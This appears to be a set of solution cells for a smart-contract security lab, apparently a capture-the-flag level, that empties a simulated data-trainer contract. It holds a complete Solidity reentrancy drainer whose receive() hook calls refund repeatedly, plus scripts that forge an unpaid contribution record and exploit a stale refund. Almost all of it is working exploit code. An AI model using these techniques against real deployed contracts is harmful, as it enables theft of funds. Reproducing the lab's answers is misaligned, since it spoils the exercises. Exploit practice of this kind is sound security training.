# %% 05.1
def drain(level):
    """Drain level.contract as level.player with the lab's ReentrancyAttacker."""
    attacker = level.deploy("ReentrancyAttacker", level.contract.address)
    attacker.transact("contribute", list(sk.lab.POSITIVE), 1, sender=level.player, value=sk.lab.DEPOSIT)
    level.chain.travel(days=1)                                # the refund wait
    attacker.transact("attack", sender=level.player)          # refund -> receive() -> refund -> ...
    attacker.transact("withdraw", sender=level.player)        # the loot goes to the player

# %% 05.2
DRAINER = """
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

interface ILabTrainer {
    function addData(int64[] calldata x, uint64 label) external payable returns (uint256 id);
    function refund(uint256 id) external returns (uint256 amount);
}

contract Drainer {
    ILabTrainer public immutable target;
    address public immutable player;
    uint256 public id;
    uint256 public deposit;

    constructor(ILabTrainer target_) {
        target = target_;
        player = msg.sender;
    }

    function contribute(int64[] calldata x, uint64 label) external payable {
        require(msg.sender == player, "not yours");
        deposit = msg.value;
        id = target.addData{value: msg.value}(x, label);
    }

    function drain() external {
        require(msg.sender == player, "not yours");
        target.refund(id);                                    // receive() asks again while it can
        (bool ok,) = player.call{value: address(this).balance}("");
        require(ok, "forward failed");
    }

    receive() external payable {
        if (address(target).balance >= deposit) target.refund(id);
    }
}
"""


def drain_with_solidity(level):
    """Compile DRAINER, deploy it, and empty level.contract as level.player."""
    drainer = level.deploy(sk.compile_source(DRAINER)["Drainer"], level.contract.address)
    drainer.transact("contribute", list(sk.lab.POSITIVE), 1, sender=level.player, value=sk.lab.DEPOSIT)
    level.chain.travel(days=1)
    drainer.transact("drain", sender=level.player)

# %% 05.3
def forge(level):
    """Record an unpaid contribution worth everything the trainer holds, then claim it."""
    loot = level.chain.balance(level.contract.address)
    fake = level.handler.transact("record", level.player, list(sk.lab.POSITIVE), 1, loot,
                                  sender=level.player).output
    level.chain.travel(days=1)
    level.contract.transact("refund", fake, sender=level.player)

# %% 05.4
def stale_refund(level):
    """Add a wrong label the model learns, put the model back with the right one, refund the wrong one."""
    send = dict(sender=level.player, value=sk.lab.DEPOSIT)
    bad = level.contract.transact("addData", list(sk.lab.NEGATIVE), 1, **send).output
    level.contract.transact("addData", list(sk.lab.NEGATIVE), 0, **send)
    level.chain.travel(days=1)
    level.contract.transact("refund", bad, sender=level.player)
